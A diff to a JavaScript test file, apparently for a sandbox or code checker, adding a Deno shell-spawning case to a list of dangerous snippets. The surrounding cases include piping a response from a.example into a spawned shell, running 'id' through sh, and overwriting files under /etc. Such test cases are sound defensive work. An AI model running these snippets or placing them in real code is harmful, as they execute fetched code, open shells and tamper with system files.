@@ -264,6 +264,7 @@ test.each([
   'new Worker(new URL("https://a.example/w.js"), { type: "module" })',
   'require("http").get("http://a.example", (r) => r.pipe(require("child_process").spawn("sh").stdin))',
   'require("child_process").spawn("sh").stdin.end("id")',
+  'const p = new Deno.Command("sh", { stdin: "piped" }).spawn(); p.stdin.getWriter().write(x)',
   'require("fs").symlinkSync("/etc/x", "y"); require("fs").writeFileSync("y", "")',
   'await Bun.write("/etc/x", "y")',
   'const Bun = globalThis.Bun; Bun.spawnSync({cmd: ["id"]})',
